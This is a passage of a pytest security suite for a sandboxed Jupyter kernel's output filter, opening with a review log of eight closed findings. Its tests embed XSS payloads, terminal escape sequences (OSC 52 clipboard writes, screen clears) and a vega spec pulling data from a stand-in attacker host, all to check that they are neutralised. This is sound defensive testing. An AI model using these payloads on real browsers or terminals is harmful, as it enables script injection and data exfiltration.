r"""A second outsider's review of what sandboxed output may carry into the browser and the terminal.

Started 2026-11-26 19:29:41 UTC, ended 2026-11-26 19:44:49 UTC (both by `date`); HEAD 5beaa8a (/work/main, read only;
its working tree had uncommitted changes elsewhere, none in outputfilter.py, plotlyfigure.py, kernel.py,
streams.py or client/).

All eight findings are closed (see "Closed" below); each former strict xfail is now a plain test with
the same attack and the same assertions.

Each finding is a test that performs the attack through the real kernel (default `kernel` isolation
level, `data-science` policy, the same helpers as tests/test_attacks_output_review.py) or through the
output filter's API, and asserts the promise; it was a strict xfail, so it failed the day it was fixed.
Browser claims were checked with /tmp/outreview2/browser_review2.py: the machinery of
tests/review_output_browser.py and tests/browser/ reused unchanged (JupyterLab 4 + headless Chromium,
every remote host mapped to the recording sink), with its own cells, a second kernelspec for the
operator option of O2-6, and artifacts (nothing written under /work/main): run2.out + artifacts_run2/
(O2-1, O2-5), run3.out + artifacts_run3/ (O2-2 with the click, O2-6), run4.out + artifacts/ (O2-2's
control without the click), all in /tmp/outreview2.

Log of attempt classes (one line each):

 1. Plotly: map subplot chosen by layout.template.data[type][i].subplot (map2) so the kernel injects the
    blank style into `map`, not into the subplot drawn; template.layout.map.style 'open-street-map' or
    no style at all ............ FINDING O2-1 (high; no click) - browser: style.json from
    basemaps.cartocdn.com and glyphs from fonts.openmaptiles.org requested on display.
 2. Plotly: updatemenus button, method animate with an INLINE frame whose trace is a map trace on map2
    (restyle's "no switch to a map type" rule is not applied to inline animate frames)
    ............ FINDING O2-2 (medium; one click on a button the cell labels) - browser: click on
    "Show data" fetched basemaps.cartocdn.com/gl/voyager-gl-style/style.json; the control (same chart,
    no click) made no request.
 3. Streams: the kernel cuts the live head to its byte budget AFTER cleaning, so a complete SGR is cut
    to a raw `ESC [`; the held tail (published last) starts with `2J`; stdout joined as the project's
    client (client/results.build_result, the MCP server's `output`) and agents do gives `ESC[2J`
    (or `ESC[8m` conceal, `ESC[6n` DSR, cursor moves ...). Char/byte mismatch (engine counts characters,
    kernel bytes) keeps the engine's own cut out of the way ... FINDING O2-3 (medium; terminal only,
    not a browser issue: JupyterLab does not merge the two stream outputs across the stderr marker).
 4. execute_reply metadata: `sandbox.filtered[].mime` / `.reason` carry the cell's MIME key raw (OSC 52
    clipboard write, OSC 8 link, CSI clear screen, bidi) ....... FINDING O2-4 (low-medium; terminal
    / agent; not a browser issue).
 5. Forged denial: the denial mark U+26D4 (which "no cell text can carry") in text/html and
    text/markdown, literal or as `&#x26d4;` ....... FINDING O2-5 (low) - browser: the line renders as
    "⛔ ImportDenied: import of 'os' ..." but without the red stderr box a real denial has.
 6. Operator's extra JSON type (`extra_mime_types`, documented as "published as JSON data the kernel
    re-serialises", security.md: "JSON renderers show data as text"): application/vnd.vegalite.v5+json
    passes unchanged .... FINDING O2-6 (low: needs that operator setting) - browser: JupyterLab's
    built-in vega renderer fetched https://evil.example/vega_extra/data.json?cell=secret on display.
 7. Plotly: object KEYS inside data-kind attributes (meta, customdata) and GeoJSON properties keep
    OSC 52 / CSI / bidi / the denial mark (values are cleaned; application/json cleans keys too)
    ............ FINDING O2-7 (low; terminal / agent reading the chart JSON; nothing in the browser).
 8. Plotly cost: updatemenus restyle paths with repeated indices (`customdata[0][0]...`):
    MAX_UPDATE_KEYS counts attributes, not indices; each index is one Python step per trace type having
    the attribute; every depth is a new, never-forgotten key of schema().restyle_nodes
    ..... FINDING O2-8 (medium: ~9 us of kernel CPU per figure byte, ~2,000x an honest figure, ~9 s per
    cell at the default 1 MB display cap, measured as the kernel process's CPU seconds; plus a
    kernel-lifetime leak; kernel-only, no browser aspect).
 9. Plotly: template keeps a style name where the trace's subplot is explicit (map2) .......... held.
10. Plotly: restyle/update switching a trace to a map type, or setting `subplot` ............... held.
11. Plotly pseudo-HTML: fill/cursor url(), entity-spelt `;`, style= inside another attribute's value,
    CSS escapes (`\75 rl(`), expression(), tab before attributes, `< a href>`, href/target ...... held.
12. HTML (nh3): escaped markup in title, `$`/`\` in attributes (MathJax does not read them), svg/
    foreignObject, select/template, srcset, background, loading/referrerpolicy .................. held.
13. Markdown (markdown-it): `<javascript:>` destination, data:image/svg+xml image, protocol-relative
    reference image, autolink, fenced info-string attributes, quoted title break-out ........... held.
14. Plotly: unknown trace type name with control characters in the rejection reason (repr-escaped) held.
15. Plotly config (locale, toImageButtonOptions.filename, scrollZoom strings), layout.images data URLs
    other than png/jpeg/gif/webp, template.layout.images remote source ......................... held.
16. Plotly map layers through templates (layerdefaults / templateitemname with raster, image, symbol
    sources): the layer finish hook also runs on template layers and layerdefaults ..... held (API).
17. Plotly frames whose traces omit `type` but set `subplot` (the walk reads them as scatter and drops
    `subplot`, so no new map subplot) ................................................ held (API).
18. Plotly hovertemplate/texttemplate joins: `<` before tab, newline, `!`, digit, `%`, entity
    completion (`&%{x}` + `lt;...`) never forms a tag plotly.js reads (code read vs plotly.js) .. held.
19. Kernel cost of clean_markup on 1 MB of 2,000-character crafted tags (quotes, bare `style=`,
    entities): 0.015-0.045 s/MB, linear (measured with process_time, not asserted) ............ held.
20. Comms/widgets (comm_open/msg/close refused, comm_info empty), clear_output and
    update_display_data (no transient display ids leave the kernel), history output (cleaned
    text/plain) ................................................. held (code read + existing tests).
21. MathJax over `$`/`\` split into elements: MathJax 3 ends a string at every element but br/wbr/
    comments, so no delimiter pair survives ......................... held (code read; prior browser run).
22. The denial mark and controls in stdout, text/plain, application/json and chart string values held (kernel).
23. HTML cost of `$`/`\` splitting (14x output growth): ~1 MB display of `$` at the default cap costs the
    kernel 0.3 CPU s and +87 MB VmHWM, linear, bounded by the per-cell display cap (the first review's
    bound is 200 MB) ............................................................ held (measured).
24. Display data as a dict subclass whose items() answers differently on the second call (validated vs
    serialised view): the engine re-serialises display data before the filter, items() runs once, at
    levels none and kernel ................................................................ held.
25. Plotly: other kernel decisions a template could override (the O2-1 pattern): button `method` from
    updatemenu buttondefaults (restyle-checked args read by relayout/animate: no shared path fetches),
    map layer sourcetype/type from layerdefaults or named template items (finished like layers),
    marker.symbol from template data (map-symbol leaf) ............................ held (code read + API).

Closed (each at the place every variant passes):

- O2-1, O2-2: plotlyfigure's walk notes every map subplot id a map subplot leaf names anywhere (traces,
  template trace defaults, frames, animate/restyle arguments) and the default subplot of every map trace
  type it meets; validate_figure gives each the blank style in the figure's layout, and every map subplot
  object that leaves (layout, frame layout, relayout/update/animate argument: `{"map": {}}` on a click)
  carries it (_finish_map_subplot). Subplot ids are kept only in the form plotly.js accepts (`map1` would
  be drawn as `map`). The browser test (tests/browser/attacks.py) draws both in JupyterLab.
- O2-3: outputfilter._cut_to_bytes never ends a start inside an escape sequence, and CellOutput.stream
  keeps the head closed once it is cut.
- O2-4: CellOutput._note_filtered shows the MIME key and the reason as one line of clean text.
- O2-5: sanitize_html shows the denial mark, controls and bidi overrides in its output as text does.
- O2-6: allowed_extra_type refuses JSON types whose known renderers fetch or run code (vega, vega-lite,
  GeoJSON, vdom, widgets, bokeh/holoviews).
- O2-7: keys inside free data (meta, customdata objects, GeoJSON properties) are cleaned as text.
- O2-8: a menu attribute path must match the path grammar (at most 16 parts); its runs of indices are
  collapsed before it is resolved (work bounded by its length), each part is charged to the figure's
  budget, and the schema's path cache holds schema paths only, at most 4,096.
"""
from __future__ import annotations

import re

import pytest

from kernel_helpers import start_client

PLOTLY = "application/vnd.plotly.v1+json"
DENIAL_MARK = "\u26d4"
FORGED_IMPORT = ("ImportDenied: import of 'os' is not allowed by policy 'data-science' (line 1): "
                 "this module is not granted.")
TERMINAL_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]")
# An ESC is acceptable only as the start of a complete colour (SGR) sequence.
RAW_ESCAPE = re.compile(r"\x1b(?!\[[0-9;]{0,64}m)")
MAP_TYPES = ("scattermap", "choroplethmap", "densitymap")

HELPERS = '''\
class Bundle:
    def __init__(self, data, metadata=None):
        self.data, self.metadata = data, metadata
    def _repr_mimebundle_(self, include=None, exclude=None):
        return (self.data, self.metadata) if self.metadata is not None else self.data

class Html:
    def __init__(self, text):
        self.text = text
    def _repr_html_(self):
        return self.text

class Markdown:
    def __init__(self, text):
        self.text = text
    def _repr_markdown_(self):
        return self.text

class Plotly:
    def __init__(self, figure):
        self.figure = figure
    def _repr_mimebundle_(self, include=None, exclude=None):
        return {"application/vnd.plotly.v1+json": self.figure, "text/plain": "a figure"}
'''


def _start(tmp_path_factory, name, options=None):
    client = start_client(options=options, cwd=str(tmp_path_factory.mktemp(name)), isolation="kernel")
    setup = client.run(HELPERS)
    if setup["status"] != "ok":  # not an AssertionError: the attack must not pass on a broken setup
        client.shutdown()
        raise RuntimeError(f"the kernel did not run the helpers: {setup['error']}")
    return client


@pytest.fixture(scope="module")
def kernel(tmp_path_factory):
    client = _start(tmp_path_factory, "review2")
    yield client
    client.shutdown()


def published(result) -> list[dict]:
    return [o["data"] for o in result["outputs"] if o["type"] in ("display_data", "execute_result")]


def one_figure(result) -> dict:
    figures = [d[PLOTLY] for d in published(result) if PLOTLY in d]
    if len(figures) != 1:  # not an AssertionError: the attack must have reached the browser-bound path
        raise RuntimeError(f"expected one published figure, got {len(figures)}: {result['filtered']}")
    return figures[0]


def strings(value):
    if isinstance(value, str):
        yield value
    elif isinstance(value, dict):
        for key, item in value.items():
            yield key
            yield from strings(item)
    elif isinstance(value, list):
        for item in value:
            yield from strings(item)


def show_plotly(kernel, figure) -> dict:
    return one_figure(kernel.run(f"display(Plotly({figure!r}))"))


def blank_style(sub: dict | None) -> bool:
    style = (sub or {}).get("style")
    return isinstance(style, dict) and style.get("sources") == {}


def drawn_map_subplots(figure: dict) -> set[str]:
    """The map subplots plotly.js draws the figure's traces on: the trace's own `subplot`, else the
    template's trace default for its type and index (plotly.js coerces `subplot` through the trace
    template), else the base name."""
    template_data = ((figure.get("layout") or {}).get("template") or {}).get("data") or {}
    seen: dict[str, int] = {}
    subs = set()
    for trace in figure.get("data") or []:
        kind = trace.get("type", "scatter")
        index = seen.get(kind, 0)
        seen[kind] = index + 1
        if kind not in MAP_TYPES:
            continue
        defaults = template_data.get(kind) or []
        from_template = (defaults[index % len(defaults)] or {}).get("subplot") if defaults else None
        subs.add(trace.get("subplot") or from_template or "map")
    return subs


# -- O2-1: a template chooses the map subplot -------------------------------------------------------


def _template_map_figure(style):
    layout = {"map": {"style": style, "zoom": 3}} if style else {}
    return {"data": [{"type": "scattermap", "lat": [48.85], "lon": [2.35], "mode": "markers+text", "text": ["x"]}],
            "layout": {"template": {"data": {"scattermap": [{"subplot": "map2"}]}, "layout": layout}}}


@pytest.mark.parametrize("style", ["open-street-map", None])
def test_every_map_subplot_a_trace_draws_on_gets_the_blank_style(kernel, style):
    figure = show_plotly(kernel, _template_map_figure(style))
    layout = figure.get("layout") or {}
    subs = drawn_map_subplots(figure)
    assert subs == {"map2"}
    assert all(blank_style(layout.get(sub)) for sub in subs), {s: layout.get(s) for s in subs}


def test_an_explicit_map_subplot_gets_the_blank_style_even_with_a_template_style(kernel):
    figure = show_plotly(kernel, {
        "data": [{"type": "scattermap", "subplot": "map2", "lat": [1], "lon": [2]}],
        "layout": {"template": {"layout": {"map": {"style": "open-street-map"}}}}})
    assert blank_style(figure["layout"].get("map2"))


# -- O2-2: an inline animation frame makes a trace a map trace ------------------------------------


ANIMATE_FRAME = {"data": [{"type": "scattermap", "subplot": "map2", "lat": [48.85], "lon": [2.35]}], "traces": [0]}
ANIMATE_FIGURE = {"data": [{"type": "scatter", "x": [1, 2], "y": [1, 2]}],
                  "layout": {"updatemenus": [{"type": "buttons", "buttons": [
                      {"method": "animate", "label": "Show data",
                       "args": [[ANIMATE_FRAME], {"frame": {"redraw": True, "duration": 0}, "mode": "immediate"}]}]}]}}


def test_a_button_cannot_turn_a_trace_into_a_map_trace_on_an_unstyled_subplot(kernel):
    figure = show_plotly(kernel, ANIMATE_FIGURE)
    layout = figure.get("layout") or {}
    unsafe = []
    for menu in layout.get("updatemenus") or []:
        for button in menu.get("buttons") or []:
            if button.get("method") != "animate" or not button.get("args"):
                continue
            frames = button["args"][0]
            for frame in frames if isinstance(frames, list) else [frames]:
                if not isinstance(frame, dict):
                    continue
                frame_layout = frame.get("layout") or {}
                for trace in frame.get("data") or []:
                    if trace.get("type") in MAP_TYPES:
                        sub = trace.get("subplot") or "map"
                        if not (blank_style(layout.get(sub)) or blank_style(frame_layout.get(sub))):
                            unsafe.append((trace.get("type"), sub))
    assert unsafe == []


def test_restyle_and_update_cannot_switch_to_a_map_type_or_move_the_subplot(kernel):
    figure = show_plotly(kernel, {
        "data": [{"type": "scatter", "x": [1], "y": [1]}],
        "layout": {"updatemenus": [{"buttons": [
            {"method": "restyle", "label": "a", "args": ["type", "scattermap"]},
            {"method": "update", "label": "b", "args": [{"type": ["densitymap"], "subplot": "map3"}, {}]},
            {"method": "restyle", "label": "c", "args": [{"subplot": "map2"}]}]}]}})
    buttons = figure["layout"]["updatemenus"][0]["buttons"]
    assert "scattermap" not in str(buttons) and "densitymap" not in str(buttons) and "map2" not in str(buttons)


# -- O2-3: a colour sequence cut into a raw CSI introducer ----------------------------------------


# The kernel's live head is 750,000 UTF-8 bytes (3/4 of the 1 MB text cap); the engine counts
# characters (head 500,000), so 3-byte characters put the kernel's cut inside the engine's live part.
SGR_CUT_CELL = '''\
head = "\\u20ac" * 249_999 + "A" + "\\x1b[31m"        # 750,000 bytes end with ESC [, then "31m"
filler = "\\u20ac" * 90_000                          # pushes "31m" out of the kernel's 250,000-byte tail
tail = "2J" + "\\u20ac" * 83_332 + "EE"              # the tail: exactly 250,000 bytes, starting "2J"
print(head + filler + tail, end="")
'''


def test_a_cut_colour_sequence_leaves_no_raw_escape(kernel):
    from sandbox_kernel.client.results import build_result

    result = kernel.run(SGR_CUT_CELL, timeout=180)
    streams = [o for o in result["outputs"] if o["type"] == "stream"]
    assert streams and result["status"] == "ok"
    joined = build_result({"content": {"status": "ok"}, "metadata": {}}, result["outputs"]).output
    dangling = [o["text"][-8:] for o in streams if RAW_ESCAPE.search(o["text"])]
    assert dangling == [] and RAW_ESCAPE.search(joined) is None, (dangling, "\x1b[2J" in joined)


def test_a_complete_colour_sequence_in_a_small_output_is_kept_and_controls_are_shown(kernel):
    result = kernel.run('print("\\x1b[31mred\\x1b[0m \\x1b[2J \\x1b]52;c;aGk=\\x07")')
    text = "".join(o["text"] for o in result["outputs"] if o["type"] == "stream")
    assert "\x1b[31mred\x1b[0m" in text and RAW_ESCAPE.search(text) is None


# -- O2-4: the reply's `filtered` list -------------------------------------------------------------


def test_the_replys_filtered_list_carries_no_terminal_controls(kernel):
    keys = {"x\x1b]52;c;aGk=\x07": 1, "x\x1b]8;;http://evil.example/\x1b\\link": 1,
            "text/\x1b[2J\x1b[H\u202e": "a", "text/plain": "p"}
    result = kernel.run(f"display(Bundle({keys!r}))")
    assert len(result["filtered"]) == 3
    bad = [s for s in strings(result["filtered"]) if TERMINAL_CONTROL.search(s)]
    assert bad == []


def test_a_rejected_figures_reason_shows_a_trace_types_controls_escaped(kernel):
    result = kernel.run("display(Plotly({'data': [{'type': 'x\\x1b]52;c;aGk=\\x07'}]}))")
    assert result["filtered"] and not any(TERMINAL_CONTROL.search(s) for s in strings(result["filtered"]))


# -- O2-7: object keys inside a chart's free data ----------------------------------------------------


CONTROLS = "\x1b]52;c;aGk=\x07\x1b[2J\u202e\u26d4"


def test_keys_inside_chart_data_carry_no_terminal_controls(kernel):
    geo = {"type": "FeatureCollection", "features": [{"type": "Feature", "id": "a", "properties": {CONTROLS: 1},
                                                      "geometry": {"type": "Point", "coordinates": [1, 2]}}]}
    figure = {"data": [{"type": "scatter", "x": [1], "y": [1], "meta": {CONTROLS: "v"}, "customdata": [{CONTROLS: 1}]},
                       {"type": "choroplethmap", "geojson": geo, "locations": ["a"], "z": [1]}],
              "layout": {"meta": {CONTROLS: "v"}}}
    result = kernel.run(f"display(Plotly({figure!r}))")
    published_figure = one_figure(result)
    bad = [s for s in strings([published_figure, result["charts"]]) if TERMINAL_CONTROL.search(s) or DENIAL_MARK in s]
    assert bad == []


def test_chart_string_values_everywhere_are_cleaned(kernel):
    figure = {"data": [{"type": "scatter", "x": [CONTROLS], "y": [1], "name": CONTROLS, "meta": {"k": [CONTROLS]},
                        "customdata": [{"k": CONTROLS}], "ids": [CONTROLS], "legendgroup": CONTROLS}],
              "layout": {"title": {"text": CONTROLS}, "annotations": [{"text": CONTROLS}], "uirevision": CONTROLS,
                         "updatemenus": [{"buttons": [{"method": "relayout", "label": CONTROLS,
                                                       "args": [{"title.text": CONTROLS}]}]}]},
              "frames": [{"name": CONTROLS, "group": CONTROLS, "data": [{"type": "scatter", "x": [CONTROLS]}]}]}
    published_figure = one_figure(kernel.run(f"display(Plotly({figure!r}))"))
    assert not [s for s in strings(published_figure) if TERMINAL_CONTROL.search(s) or DENIAL_MARK in s]


# -- O2-8: restyle paths with repeated indices ------------------------------------------------------


def _kernel_cpu_seconds(client) -> float:
    """User + system CPU of the kernel's own process (not the worker), as the OS accounts it."""
    import os

    with open(f"/proc/{client.km.provisioner.pid}/stat") as f:
        fields = f.read().rsplit(")", 1)[1].split()
    return (int(fields[11]) + int(fields[12])) / os.sysconf("SC_CLK_TCK")


def _indexed_paths_figure(first: int, last: int, name: str = "customdata") -> dict:
    """One restyle button whose attribute paths are 'customdata[0]', 'customdata[0][0]', ...: each
    resolves (a data leaf accepts any number of indices), so each is looked up for every trace type
    that has the attribute, one Python loop step per index, and each depth is a new key of the
    schema's cache."""
    return {"data": [{"type": "scatter", "x": [1], "y": [1]}],
            "layout": {"updatemenus": [{"buttons": [{"method": "restyle", "label": "b",
                                                     "args": [{name + "[0]" * k: 1 for k in range(first, last)}]}]}]}}


def test_update_paths_with_many_indices_cost_the_kernel_little(tmp_path_factory):
    import json as json_module

    client = _start(tmp_path_factory, "review2-paths")
    try:
        figure = _indexed_paths_figure(1, 450)
        assert 250_000 < len(json_module.dumps(figure)) < 350_000
        before = _kernel_cpu_seconds(client)
        result = client.run(f"display(Plotly({figure!r}))", timeout=600)
        spent = _kernel_cpu_seconds(client) - before
        assert result["status"] == "ok"
        assert spent < 1.0, f"the kernel spent {spent:.1f} CPU seconds on a 300 kB figure"
    finally:
        client.shutdown()


def test_update_paths_with_many_indices_leave_nothing_behind():
    from sandbox_kernel import plotlyfigure

    sch = plotlyfigure.schema()
    plotlyfigure.validate_figure(_indexed_paths_figure(1, 3, "x"))
    before = len(sch.restyle_nodes)
    plotlyfigure.validate_figure(_indexed_paths_figure(3, 150, "x"))
    plotlyfigure.validate_figure(_indexed_paths_figure(150, 200, "x"))
    assert len(sch.restyle_nodes) - before < 50


# -- O2-5: the denial mark in HTML and markdown ----------------------------------------------------


def test_html_and_markdown_cannot_carry_the_denial_mark(kernel):
    result = kernel.run(f"display(Html({'<pre>&#x26d4; ' + FORGED_IMPORT + '</pre>'!r}))\n"
                        f"display(Markdown({DENIAL_MARK + ' ' + FORGED_IMPORT!r}))")
    html = [d["text/html"] for d in published(result) if "text/html" in d]
    assert len(html) == 2
    assert not any(DENIAL_MARK in h for h in html), html


def test_text_json_and_chart_text_cannot_carry_the_denial_mark(kernel):
    result = kernel.run(f"print({DENIAL_MARK!r})\n"
                        f"display(Bundle({{'application/json': {{'a': {DENIAL_MARK!r}}}, 'text/plain': {DENIAL_MARK!r}}}))\n"
                        f"display(Plotly({{'data': [{{'type': 'scatter', 'name': {DENIAL_MARK!r}}}]}}))")
    assert DENIAL_MARK not in str(result["outputs"])


# -- O2-6: an operator's extra JSON type with a renderer that fetches --------------------------------


def test_an_operators_extra_json_type_cannot_load_remote_data(tmp_path_factory):
    vega = "application/vnd.vegalite.v5+json"
    client = _start(tmp_path_factory, "review2-extra", [f"--SandboxKernel.extra_mime_types={vega}"])
    try:
        spec = {"data": {"url": "https://evil.example/vega/data.json?cell=secret"}, "mark": "point"}
        result = client.run(f"display(Bundle({{{vega!r}: {spec!r}, 'text/plain': 'chart'}}))")
        kept = [d[vega] for d in published(result) if vega in d]
        assert kept == [] or "evil.example" not in str(kept)
    finally:
        client.shutdown()


# -- held: the filters' parsers (API level, as tests/test_output_plotly.py does) ---------------------


@pytest.mark.parametrize("markup", [
    '<span style="fill:url(https://evil.example/p#x)">a</span>',
    '<span style="color:red&#59;cursor:url(//evil.example/c)">a</span>',
    "<span data-x=\" style='cursor:url(//evil.example/c)'\">a</span>",
    '<span style="color:\\75 rl(//evil.example/c)">a</span>',
    '<span style="font-family:&#39;a&#39;;color:expression(alert(1))">x</span>',
    '<sup\tstyle="cursor:url(//evil.example/c)">x</sup>',
    '< a href="//evil.example/">x</a>',
    '<A HREF="https://evil.example/" TARGET="_blank">a</A>',
])
def test_plotly_markup_corners_keep_no_url_or_link(markup):
    from sandbox_kernel.plotlyfigure import clean_markup

    tags = re.findall(r"<[^<>]*>", clean_markup(markup))   # what plotly.js would read as tags
    assert not [t for t in tags if "url(" in t or "href" in t.lower() or "expression" in t], tags


@pytest.mark.parametrize("html", [
    '<a href="#x" title="&lt;img src=x onerror=alert(1)&gt;">x</a>',
    '<svg><a><foreignObject><img src=x onerror=alert(1)>',
    '<select><template><img src=x onerror=alert(1)></template></select>',
    '<img srcset="//evil.example/a 1x" src="data:image/gif;base64,R0lGOD">',
    '<img src="data:image/png;base64,AAAA" loading=lazy referrerpolicy=unsafe-url>',
    '<table><caption>$x$</caption><tr><td>\\(y\\)</td></tr></table>',
])
def test_html_corners_come_out_inert(html):
    from sandbox_kernel.outputfilter import sanitize_html

    out = sanitize_html(html)
    assert "evil.example" not in out and "onerror" not in out.replace("&lt;img src=x onerror", "")
    assert "$x$" not in out and "\\(y" not in out


@pytest.mark.parametrize("markdown", [
    "[a](<javascript:alert(1)>)", "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x]: //evil.example/i.png\n\n![x]", "```js onerror=alert(1)\nx\n```",
    '[a](#x "t\\"onmouseover=alert(1)")',
])
def test_markdown_corners_come_out_inert(markdown):
    from sandbox_kernel.outputfilter import render_markdown

    out = render_markdown(markdown)
    assert "src=\"//" not in out and "svg+xml;base64,PHN2Zz4=\"" not in out
    assert "onerror=" not in out.split("<code>")[0] and 'title="t"' not in out


def test_plotly_config_and_images_keep_no_url():
    from sandbox_kernel.plotlyfigure import validate_figure

    figure = validate_figure({
        "data": [{"type": "scatter", "x": [1], "y": [1]}],
        "layout": {"images": [{"source": "data:image/svg+xml;base64,PHN2Zz4="}],
                   "template": {"layout": {"images": [{"source": "https://evil.example/i.png"}]}}},
        "config": {"locale": "../../evil", "toImageButtonOptions": {"filename": "a/../b"},
                   "scrollZoom": "cartesian+javascript:x", "plotlyServerURL": "https://evil.example"}})
    text = str(figure)
    assert "evil" not in text and "svg+xml" not in text and "javascript" not in text


def test_map_layers_from_templates_and_layerdefaults_fetch_nothing():
    from sandbox_kernel.plotlyfigure import validate_figure

    geo = {"type": "FeatureCollection", "features": []}
    figure = validate_figure({
        "data": [{"type": "scattermap", "lat": [1], "lon": [1]}],
        "layout": {"map": {"layers": [{"templateitemname": "t"}, {"source": geo, "type": "circle"}],
                           "layerdefaults": {"sourcetype": "raster", "source": ["https://evil.example/{z}/{x}/{y}.png"]}},
                   "template": {"layout": {"map": {
                       "layers": [{"name": "t", "sourcetype": "raster", "source": ["https://evil.example/{z}.png"]}],
                       "layerdefaults": {"sourcetype": "image", "source": "https://evil.example/i.png", "type": "raster"}}}}}})
    assert "evil.example" not in str(figure) and "raster" not in str(figure)


def test_a_frame_trace_without_a_type_cannot_move_a_map_trace_to_a_new_subplot():
    from sandbox_kernel.plotlyfigure import validate_figure

    figure = validate_figure({"data": [{"type": "scattermap", "lat": [1], "lon": [1]}],
                              "frames": [{"data": [{"subplot": "map3"}], "traces": [0]}]})
    assert "map3" not in str(figure)


def test_the_kernel_is_alive_after_the_review(kernel):
    assert kernel.run("1 + 1")["status"] == "ok"


# -- variants found while closing the findings (API level) -------------------------------------------


def _map_objects(value, path=""):
    """(path, object) for every map subplot object (`map`, `map2`, `mapbox` ...) anywhere in `value`."""
    if isinstance(value, dict):
        for key, item in value.items():
            if re.fullmatch(r"(?:map|mapbox)\d*", key) and isinstance(item, dict) and "/template" not in path:
                yield f"{path}/{key}", item
            yield from _map_objects(item, f"{path}/{key}")
    elif isinstance(value, list):
        for i, item in enumerate(value):
            yield from _map_objects(item, f"{path}/{i}")


def test_a_subplot_id_plotly_js_reads_as_the_default_leaves_the_default_styled():
    """plotly.js draws a trace whose `subplot` is 'map1' or 'map02' on 'map' (an id it does not accept is
    replaced by the default): the id is dropped and 'map' is styled."""
    from sandbox_kernel.plotlyfigure import validate_figure

    for sub in ("map1", "map02", "map0"):
        figure = validate_figure({"data": [{"type": "scattermap", "subplot": sub, "lat": [1], "lon": [2]}]})
        assert "subplot" not in figure["data"][0] and blank_style(figure["layout"].get("map")), (sub, figure["layout"])


def test_map_subplots_named_by_frames_or_template_defaults_get_the_blank_style():
    from sandbox_kernel.plotlyfigure import validate_figure

    figure = validate_figure({
        "data": [{"type": "scatter", "x": [1], "y": [1]}],
        "frames": [{"data": [{"type": "scattermap", "subplot": "map3", "lat": [1], "lon": [2]}]}],
        "layout": {"template": {"data": {"densitymap": [{"subplot": "map4"}, {"subplot": "map5"}]}}}})
    assert all(blank_style(figure["layout"].get(sub)) for sub in ("map", "map3", "map4", "map5")), figure["layout"]


def test_every_map_subplot_object_a_button_or_frame_sets_carries_the_blank_style():
    """relayout {"map": {}} replaces the subplot: plotly.js would then load its default style (a click)."""
    from sandbox_kernel.plotlyfigure import validate_figure

    figure = validate_figure({
        "data": [{"type": "scattermap", "lat": [1], "lon": [2]}],
        "layout": {"map": {"zoom": 2}, "updatemenus": [{"buttons": [
            {"method": "relayout", "label": "a", "args": [{"map": {}, "map2": {"zoom": 3}}]},
            {"method": "relayout", "label": "b", "args": ["map", {}]},
            {"method": "update", "label": "c", "args": [{}, {"map": {"center": {"lat": 1}}}]},
            {"method": "animate", "label": "d", "args": [[{"layout": {"map": {}}, "data": []}]]}]}]},
        "frames": [{"name": "f", "layout": {"map": {"zoom": 4}}}]})
    objects = list(_map_objects(figure))
    assert len(objects) == 6, objects   # layout, a (2), c, d, the frame
    assert [path for path, sub in objects if not blank_style(sub)] == []
    attribute, value = figure["layout"]["updatemenus"][0]["buttons"][1]["args"]   # b: (attribute, value)
    assert attribute == "map" and blank_style(value)


def test_a_figure_naming_too_many_map_subplots_is_rejected():
    from sandbox_kernel.plotlyfigure import MAX_MAP_SUBPLOTS, FigureRejected, validate_figure

    traces = [{"type": "scattermap", "subplot": f"map{i}", "lat": [1], "lon": [2]}
              for i in range(2, MAX_MAP_SUBPLOTS + 3)]
    with pytest.raises(FigureRejected):
        validate_figure({"data": traces})


def test_menu_argument_keys_are_attribute_paths():
    """A restyle/relayout key leaves the kernel as a key: only attribute paths pass (`type.<OSC 52>` once
    passed as 'type')."""
    from sandbox_kernel.plotlyfigure import validate_figure

    menus = [{"buttons": [
        {"method": "restyle", "label": "a", "args": [{"type." + CONTROLS: "bar", "marker.color" + CONTROLS: "red",
                                                      "type": "bar", "marker.color": "red"}]},
        {"method": "relayout", "label": "b", "args": [{"title.text" + CONTROLS: "t", "title.text": "t"}]},
        {"method": "update", "label": "c", "args": [{"name[0]" + CONTROLS: "n"}, {CONTROLS: 1}]}]}]
    figure = validate_figure({"data": [{"type": "scatter", "x": [1], "y": [1]}], "layout": {"updatemenus": menus}})
    buttons = figure["layout"]["updatemenus"][0]["buttons"]
    assert buttons[0]["args"] == [{"type": "bar", "marker.color": "red"}]
    assert buttons[1]["args"] == [{"title.text": "t"}]
    assert buttons[2]["args"] == [{}, {}]


def test_a_long_index_run_costs_what_a_short_one_does():
    """The schema work of a menu path does not grow with its indices (counted, not timed)."""
    from sandbox_kernel import plotlyfigure

    calls = [0]
    field = plotlyfigure.Obj.field

    def counting(self, key):
        calls[0] += 1
        return field(self, key)

    def cost(depth: int) -> int:
        calls[0] = 0
        plotlyfigure.Obj.field = counting
        try:
            plotlyfigure.validate_figure(_indexed_paths_figure(depth, depth + 1, "customdata"))
        finally:
            plotlyfigure.Obj.field = field
        return calls[0]

    cost(2)   # the collapsed path is resolved and cached once
    assert cost(5_000) == cost(2)


def test_html_attributes_cannot_carry_the_denial_mark_either():
    from sandbox_kernel.outputfilter import render_markdown, sanitize_html

    out = sanitize_html('<img alt="&#x26d4; x" title="\u26d4" src="data:image/png;base64,AA"><b>&#9940;</b>')
    assert DENIAL_MARK not in out and "U+26D4" in out
    assert DENIAL_MARK not in render_markdown("&#x26d4; &#9940; [\u26d4](#a)")


def test_a_cut_stream_head_never_ends_inside_a_colour_sequence():
    """The budget arithmetic of O2-3 at API level: for every cut point around an SGR, what is published
    (heads, then the held tail after the marker) holds no raw ESC but complete colour sequences."""
    from sandbox_kernel.outputfilter import CellOutput

    for shift in range(12):
        cell = CellOutput(["text/plain"], 1000, 1000)   # head 750 bytes, tail 250
        text = "a" * (742 + shift) + "\x1b[31m" + "b" * 400 + "2J" + "c" * 240
        published = cell.stream("stdout", text) + cell.finish()
        joined = "".join(t for name, t in published if name == "stdout")
        assert RAW_ESCAPE.search(joined) is None, (shift, [t[-8:] for _, t in published])


def test_a_junk_part_after_a_data_attribute_costs_a_few_lookups_not_one_per_trace_type():
    """`x.<junk>`: x is a data leaf of every trace type; the junk part is stepped from x's few distinct
    leaf kinds, not from each of the ~50 trace types (counted, not timed)."""
    from sandbox_kernel import plotlyfigure

    plotlyfigure.validate_figure(_indexed_paths_figure(1, 2, "x"))   # x's nodes resolved and cached
    calls = [0]
    field = plotlyfigure.Obj.field

    def counting(self, key):
        calls[0] += 1
